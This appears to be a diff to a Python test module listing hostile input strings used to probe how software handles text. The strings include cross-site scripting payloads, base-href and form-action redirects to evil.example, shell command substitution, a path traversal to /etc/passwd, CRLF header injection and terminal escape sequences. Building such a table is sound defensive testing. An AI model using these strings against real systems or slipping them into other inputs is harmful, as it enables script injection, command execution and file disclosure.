@@ -16,9 +16,9 @@ _TABLE: tuple[tuple[str, str | bytes, str], ...] = (
     ("focus handler", "' autofocus onfocus='alert(1)' ¤='", "leaves an attribute in single quotes"),
     ("bare handler", "x onmouseover=alert(1) ¤=", "enough where an attribute has no quotes"),
     ("svg onload", "<svg/onload=alert(1) ¤>", "no space, no closing tag"),
-    ("mathml", "<math><mtext><table><mglyph><style><img src onerror=alert(1)>¤", "changes meaning when parsed twice"),
-    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1) ¤>\">", "as above, by noscript"),
-    ("textarea closed", "</textarea><iframe srcdoc='<script>alert(1)</script>'></iframe>¤", "leaves a text field"),
+    ("mathml", "<math><mtext><mglyph><style><img src onerror=alert(1)>¤", "reads otherwise when parsed twice"),
+    ("mutation", "<noscript><p title=\"</noscript><img src onerror=alert(1) ¤>\">", "as above"),
+    ("textarea closed", "</textarea><iframe srcdoc='<script>alert(1)</script>'>¤", "leaves a text field"),
     ("title closed", "</title><base href=//evil.example/>¤", "leaves the head's title, moves every link"),
     ("option closed", "</option></select><form action=//evil.example/><button>¤", "leaves a select"),
     ("style", "<style>*{display:none}</style>¤", "hides the page"),
@@ -56,7 +56,7 @@ _TABLE: tuple[tuple[str, str | bytes, str], ...] = (
     ("shell", "$(touch /tmp/¤); `id` | cat && true", "read by a shell"),
     ("path", "../../../../etc/passwd ¤", "leaves its folder"),
     ("windows path", "..\\..\\CON.txt:¤", "as above"),
-    ("header", "x\r\nSet-Cookie: evil=¤\r\n\r\n<script>alert(1)</script>", "adds a header, or a line to a log"),
+    ("header", "x\r\nSet-Cookie: evil=¤\r\n\r\n<script>alert(1)</script>", "adds a header"),
     ("log line", "x\nlevel='error' event='¤'", "a line of its own in a log"),
     ("escape sequence", "\x1b]0;¤\x07\x1b[2J", "speaks to a terminal"),
     ("escape of one character", "\x9b2J ¤", "as above, in one character"),
@@ -91,7 +91,7 @@ _TABLE: tuple[tuple[str, str | bytes, str], ...] = (
     ("private use", "\ue000\U0010fffd ¤", "drawn differently everywhere, or not"),
     ("replacement", "a\ufffdb ¤", "what a wrong encoding leaves behind"),
     ("emoji family", "👩\u200d👩\u200d👧\u200d👦 ¤", "seven code points, one picture"),
-    ("flags", "🇩🇪🇮🇹 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f ¤", "tag characters that are needed"),
+    ("flags", "🇩🇪🇮🇹 🏴\U000e0067\U000e0062\U000e0065\U000e007f ¤", "tag characters that are needed"),
     ("skin and gender", "🧑🏽\u200d🚒 ✊🏿 ❤\ufe0f ¤", "selectors and modifiers"),
     ("long word", "W" * 70 + "¤", "no place to break"),
     ("word of a screen", "W" * 250 + "¤", "as above, longer than most fields allow"),
@@ -112,7 +112,7 @@ _TABLE: tuple[tuple[str, str | bytes, str], ...] = (
 
 @dataclass(frozen=True)
 class Hostile:
-    """One hostile text: as it is sent, as it arrives, and its mark ("" for those that have no room for one)."""
+    """One hostile text: as it is sent, its mark ("" for those that have no room for one), why it is nasty."""
 
     name: str
     sent: bytes
